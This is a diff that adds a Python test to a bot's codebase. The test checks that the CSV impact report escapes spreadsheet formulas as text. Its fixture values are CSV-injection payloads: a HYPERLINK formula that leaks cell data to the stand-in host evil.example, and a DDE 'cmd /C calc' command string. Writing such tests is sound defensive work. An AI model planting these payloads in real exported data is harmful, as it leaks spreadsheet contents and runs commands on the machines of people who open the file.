@@ -644,3 +644,26 @@ async def test_open_wave_for_invites_exactly_the_active_people_named(bot: Bot) -
     assert wave["status"] == "open"
     with pytest.raises(ValueError, match="no survey 'nope'"):
         await open_wave_for(bot, "nope", [a])
+
+
+async def test_impact_report_csv_shows_formulas_as_text(tmp_path: Path) -> None:
+    config = write_config(tmp_path)
+    bot = await Bot.create(load_settings(config))
+    try:
+        await decision(
+            bot,
+            title='=HYPERLINK("http://evil.example/?"&A1,"Click")',
+            you_said="@SUM(1+1)",
+            we_did="+cmd|' /C calc'!A0",
+            owner="-2+3",
+        )
+    finally:
+        await bot.stop()
+    as_csv = run_cli(config, "impact", "report", "--format", "csv")
+    assert as_csv.returncode == 0, as_csv.stderr
+    [row] = list(csv.DictReader(io.StringIO(as_csv.stdout)))
+    assert row["title"] == '\'=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    assert row["you_said"] == "'@SUM(1+1)"
+    assert row["we_did"] == "'+cmd|' /C calc'!A0"
+    assert row["owner"] == "'-2+3"
+    assert row["decision_id"] == "1"  # numbers stay numbers
